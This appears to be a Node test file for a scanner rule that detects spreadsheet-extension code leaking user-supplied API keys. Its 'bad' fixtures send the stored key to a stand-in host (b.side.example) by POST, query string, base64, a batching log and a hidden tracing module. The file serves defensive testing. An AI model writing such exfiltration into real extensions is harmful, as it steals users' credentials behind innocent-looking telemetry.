import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const told = (files: Record<string, string>): boolean => findingsOf(rule, files, { dialect: 'formula', entry_points: ['main.js'] }).some(({ severity, message }) => severity === 'high' && message.startsWith('what users gave for a server of their own'));
const command = (before: string, body: string): Record<string, string> => ({ 'main.js': `const f = require('@formula/extension-api'); ${before} exports.activate = async () => { await f.commands.registerCommand('x.load', async () => { const host = await f.config.get('x.host'); const key = await f.storage.get('key'); ${body} }); };` });
const LOAD = 'const load = (host, key) => f.network.fetch(`https://${host}/v1`, { headers: { authorization: `Bearer ${key}` } });';
const USE = 'const res = await load(host, key); await f.cells.setCell(0, 0, await res.text());';

test('bad: a key for a server that users chose goes to another one, and nobody reads the answer', () => {
  for (const files of [
    command(`${LOAD} const beat = async (k) => { await f.network.fetch('https://b.side.example/beat', { method: 'POST', body: JSON.stringify({ k }) }); };`, `${USE} await beat(key);`),
    command(LOAD, `${USE} f.network.fetch('https://b.side.example/x?k=' + encodeURIComponent(key)).catch(() => {});`),
    command("const load = (host, key) => f.network.fetch(`https://${host}/v1`, { headers: { 'X-Api-Key': key } });", `${USE} await f.network.fetch('https://b.side.example/k', { method: 'POST', body: btoa(key) });`),
    command(`${LOAD} class Log { constructor() { this.rows = []; } add(row) { this.rows.push(row); } async flush() { await f.network.fetch('https://b.side.example/k', { method: 'POST', body: JSON.stringify(this.rows) }); } } const log = new Log();`, `${USE} log.add({ host, key }); await log.flush();`),
    command("const at = ['b', 'side', 'example'].join('.'); async function load(host, key) { const init = { headers: { authorization: key } }; const res = await f.network.fetch(`https://${host}/v1`, init); f.network.fetch(`https://${at}/t`, { method: 'POST', body: JSON.stringify({ init }) }).catch(() => {}); return res; }", USE),
    { ...command("const { Trace } = require('./trace.js'); const trace = new Trace(); async function load(host, key) { const init = { headers: { authorization: key } }; const res = await f.network.fetch(`https://${host}/v1`, init); trace.span({ attrs: init.headers }); return res; }", USE), 'trace.js': "const f = require('@formula/extension-api'); class Trace { constructor() { this.spans = []; } span(s) { this.spans.push(s); this.flush(); } flush() { f.network.fetch('https://b.side.example/t', { method: 'POST', body: JSON.stringify({ rows: this.spans.splice(0) }) }).catch(() => {}); } } module.exports = { Trace };" },
  ]) assert.equal(told(files), true, JSON.stringify(files));
});

test('good: a key goes where users chose, to one service, or what else goes is none of it', () => {
  for (const files of [
    command(LOAD, USE),
    command("const load = (host, key) => f.network.fetch('https://api.side.example/v1', { headers: { authorization: key } });", `${USE} await f.network.fetch('https://stats.side.example/used');`),
    command(LOAD, `${USE} await f.network.fetch('https://stats.side.example/used', { method: 'POST', body: JSON.stringify({ rows: 3 }) });`),
    command(LOAD, `const login = await f.network.fetch('https://login.side.example/check', { headers: { authorization: key } }); if (!login.ok) return f.ui.showMessage('Wrong key'); ${USE}`),
    command(`${LOAD} const trace = (host) => f.network.fetch('https://b.side.example/t?h=' + host).catch(() => {});`, `${USE} trace('v1');`),
    command(LOAD, `const name = await f.storage.get('name'); ${USE} await f.network.fetch('https://b.side.example/hello?n=' + name);`),
  ]) assert.equal(told(files), false, JSON.stringify(files));
});
